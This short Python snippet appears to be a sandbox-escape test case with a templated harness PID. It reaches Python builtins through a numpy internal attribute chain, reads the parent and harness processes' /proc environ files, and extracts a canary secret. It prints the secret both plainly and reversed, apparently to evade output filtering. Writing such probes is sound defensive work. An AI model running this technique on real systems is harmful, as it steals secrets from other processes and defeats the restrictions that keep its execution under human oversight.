# attempts: read /proc/<ppid>/environ and /proc/<harness pid>/environ for the canary
# effect: env
B = np.random.bit_generator.re.enum.bltns
imp = B.getattr(B, '__import__')
osm = imp('os')
out = []
for pid in (osm.getppid(), @@HARNESS_PID@@):
    data = B.open('/proc/' + str(pid) + '/environ', 'rb').read()
    for entry in data.split(b'\0'):
        if entry.startswith(b'HGEN_TEST_SECRET='):
            out.append(entry.split(b'=', 1)[1].decode())
print(out, [v[::-1] for v in out])
raise RuntimeError('found ' + ' '.join(out))
